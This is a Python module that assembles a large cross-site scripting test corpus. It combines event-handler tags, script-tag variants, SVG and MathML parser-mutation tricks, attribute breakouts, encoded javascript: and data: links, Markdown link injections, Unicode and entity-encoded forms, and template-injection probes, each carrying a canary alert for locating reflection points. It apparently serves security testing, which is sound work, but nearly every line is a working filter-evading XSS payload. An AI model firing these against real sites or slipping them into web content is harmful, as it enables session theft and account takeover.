"""The corpus against cross-site scripting, put together from building blocks.

Each text holds the canary, so that a page can be asked where it ended up.
"""

import html
from itertools import product

CANARY = "zqx7"
RUN = f"alert('{CANARY}')"
BARE = f"alert({CANARY})"

_TAGS_AND_EVENTS = (
    ("img src=x", ("onerror", "onload", "onmouseover", "onpointerenter")),
    ("svg", ("onload", "onclick", "onfocusin")),
    ("svg><animate attributeName=x dur=1s", ("onbegin", "onend", "onrepeat")),
    ("body", ("onload", "onpageshow", "onhashchange", "onscroll")),
    ("input autofocus", ("onfocus", "onblur", "oninput")),
    ("details open", ("ontoggle", "onbeforetoggle")),
    ("video src=x", ("onerror", "onloadstart", "oncanplay")),
    ("audio src=x", ("onerror", "onplay")),
    ("iframe src=x", ("onload",)),
    ("object data=x", ("onerror", "onload")),
    ("select autofocus", ("onfocus", "onchange")),
    ("textarea autofocus", ("onfocus",)),
    ("button autofocus", ("onfocus", "onclick", "oncommand")),
    ("form", ("onsubmit", "onformdata")),
    ("marquee", ("onstart", "onfinish")),
    ("div style=animation-name:x", ("onanimationstart", "ontransitionend", "oncopy")),
    ("a href=x", ("onclick", "onauxclick", "ondragstart")),
    ("math", ("onclick", "onmouseover")),
    ("p contenteditable", ("onbeforeinput", "onpaste")),
    ("x-any tabindex=1", ("onfocus", "onwheel")),
)
_EVENTS = tuple(f"<{tag} {event}={BARE}>" for tag, events in _TAGS_AND_EVENTS for event in events)
_SHAPES = (
    "<script>{run}</script>",
    "<SCRIPT SRC=//x.example/{word}.js></SCRIPT>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script\x0c>{run}</script\x0c>",
    "<script/x>{run}</script>",
    "<script type=module>{run}</script>",
    "<img/src=x/onerror={bare}//",
    "<img src=x onerror\n=\n{bare}>",
    '<img """><script>{run}</script>">',
    "<img src=`x`onerror={bare}>",
    "<<script>{run}//<</script>",
    "<style>@import 'javascript:{word}';</style>",
    "<link rel=stylesheet href=//x.example/{word}.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{bare}'>",
    "<base href=//{word}.example/>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<embed src=javascript:{bare}>",
    "<form action=javascript:{bare}><button>x</button></form>",
    "<button formaction=javascript:{bare}>x</button>",
    "<isindex action=javascript:{bare} type=image>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={bare}>'>",
    "<xmp><p title='</xmp><img src=x onerror={bare}>'>",
    "<plaintext>{word}",
    "<dialog open onclose={bare}>{word}</dialog>",
    "<portal src=javascript:{bare}>",
    "<slot name=x>{word}</slot><slot onslotchange={bare}>",
    "<!--><script>{run}</script-->",
    "<!-- --!><script>{run}</script> -->",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml-stylesheet href='javascript:{bare}'?>",
    "<!doctype html><script>{run}</script>",
)
_FOREIGN = (
    "<svg><script>{run}</script></svg>",
    "<svg><script href=//x.example/{word}.js />",
    "<svg><a xlink:href=javascript:{bare}><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={bare}>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror={bare}></foreignObject></svg>",
    "<svg><style><img src=x onerror={bare}></style></svg>",
    "<svg><set attributeName=href to=javascript:{bare} /></svg>",
    "<svg><desc><![CDATA[</desc><script>{run}</script>]]></desc></svg>",
    "<svg></p><style><a title='</style><img src=x onerror={bare}>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={bare}></style>",
    "<math href=javascript:{bare}>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{bare}>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>{run}</script></annotation-xml></math>",
    "<math><mi><mglyph><svg><mtext><textarea><path id='</textarea><img onerror={bare} src>'>",
)
_BREAKOUTS = tuple(
    f"{end}<img src=x onerror={BARE}>"
    for end in (
        *('"', "'", "`", ">", '">', "'>", '"/>', "-->", "]]>", "?>", "\\", '\\"', "\\'"),
        *("</title>", "</textarea>", "</script>", "</style>", "</option></select>", "</noscript>"),
        *("</time>", "</a>", "</template>", "</svg>", "</math>", "</iframe>", "</p></div>"),
    )
)
_ATTRIBUTES = tuple(
    f"{quote}{space}{name}={BARE}{space}{quote}"
    for quote, space, name in product(
        ('"', "'", "", "`"), (" ", "\n", "/"), ("onmouseover", "autofocus onfocus")
    )
)


def _encodings(scheme: str) -> tuple[str, ...]:
    first, rest = scheme[0], scheme[1:]
    return (
        f"{scheme}:",
        f"{scheme.upper()}:",
        f"{first}\t{rest}:",
        f"{first}\n{rest}:",
        f"\x01{scheme}:",
        f" {scheme}:",
        f"&#{ord(first)};{rest}:",
        f"&#x{ord(first):X}{rest}:",
        f"{scheme}&colon;",
        f"{scheme}%3a",
        f"{first}%0a{rest}:",
        f"\\{scheme}:",
        f"{scheme}\u200b:",
        f"//{scheme}:",
    )


_SCHEMES = {
    "javascript": BARE,
    "vbscript": f"msgbox({CANARY})",
    "data": f"text/html,<script>{RUN}</script>",
    "livescript": BARE,
    "blob": f"https://x.example/{CANARY}",
    "file": f"///etc/{CANARY}",
    "view-source": f"https://x.example/{CANARY}",
}
_LINKS = (
    *(f"[x]({way}{BARE})" for way in _encodings("javascript")),
    *(f"<a href='{way}{BARE}'>x</a>" for way in _encodings("javascript")),
    *(f"[x]({scheme}:{html.escape(rest)})" for scheme, rest in _SCHEMES.items()),
    *(f"<{scheme}:{rest}>" for scheme, rest in _SCHEMES.items()),
    *(f"![{CANARY}]({scheme}:{rest})" for scheme, rest in list(_SCHEMES.items())[:3]),
    *(f"{scheme}:{rest}" for scheme, rest in _SCHEMES.items()),
)
_MARKDOWN = (
    "[{word}]: javascript:{bare}\n\n[{word}]",
    "[x](<javascript:{bare}>)",
    "[x](https://example.eu 'onmouseover={bare}')",
    '[x](https://example.eu" onmouseover="{bare})',
    "[x](https://example.eu/\"onmouseover='{bare}')",
    '![x" onerror="{bare}](https://x.example/a.png)',
    "![x](https://x.example/{word}.png)",
    "[![x](javascript:{bare})](javascript:{bare})",
    "[a](//x.example/{word})",
    "[a](/\\x.example/{word})",
    "<https://x.example/'onclick={bare}>",
    "<{word}@x.example'onclick={bare}>",
    "```\n<script>{run}</script>\n```",
    "``` onload={bare}\nx\n```",
    '```"><script>{run}</script>\nx\n```',
    "    <script>{run}</script>",
    "`<script>{run}</script>`",
    "| a | b |\n|---|---|\n| <script>{run}</script> | x |",
    "> <img src=x onerror={bare}>",
    "- <svg onload={bare}>",
    "1. [x](javascript:{bare})",
    "# <img src=x onerror={bare}> {word}",
    "**<img src=x onerror={bare}>**",
    "[x][<script>{run}</script>]",
    "\\<script>{run}\\</script>",
    "<div>\n\n<script>{run}</script>\n\n</div>",
    "*[x](javascript:{bare}*)",
    "[x](javascript&#58;{bare})",
    "[{word}](https://x.example/?a=<script>{run}</script>)",
)
_UNICODE = (
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "\u2039script\u203a{run}",
    "\u202e<script>{run}</script>",
    "\ufeff<script>{run}</script>",
    "<\u200bscript>{run}</script>",
    "<script\u2028>{run}</script>",
    "<img\u00a0src=x\u00a0onerror={bare}>",
    "<im\u0261 src=x onerror={bare}>",
    "\u02ba onmouseover={bare} \u02ba",
    "\u201d onmouseover={bare} \u201d",
    "+ADw-script+AD4-{word}",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "&#x3c;script&#x3e;{run}&#x3c;/script&#x3e;",
    "&#0000060script&#0000062{run}",
    "&amp;lt;script&amp;gt;{run}",
    "%3Cscript%3E{word}%3C/script%3E",
    "\\u003cscript\\u003e{word}",
    "\\x3cscript\\x3e{word}",
    "{{{{ settings.SECRET_KEY }}}} {{% load x %}} {word}",
    "${{7*7}} #{{7*7}} <%= 7*7 %> {word}",
    "<script>{run}</script\u0085>",
    "\u0001<svg\u0001onload={bare}>",
    "<\u0130mg src=x onerror={bare}>",
)


def _filled(*groups: tuple[str, ...]) -> tuple[str, ...]:
    values = {"run": RUN, "bare": BARE, "word": CANARY}
    return tuple(text.format(**values) for group in groups for text in group)


PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *_EVENTS,
            *_filled(_SHAPES, _FOREIGN, _MARKDOWN, _UNICODE),
            *_BREAKOUTS,
            *_ATTRIBUTES,
            *_LINKS,
        )
    )
)


def packed(limit: int, separator: str = " ") -> list[str]:
    """Return all payloads in as few texts of at most `limit` characters as they fit in.

    A payload longer than the limit stands nowhere: such a field cannot take it.
    """
    texts: list[str] = []
    for payload in PAYLOADS:
        if len(payload) > limit:
            continue
        longer = f"{texts[-1]}{separator}{payload}" if texts else payload
        if texts and len(longer) <= limit:
            texts[-1] = longer
        else:
            texts.append(payload)
    return texts
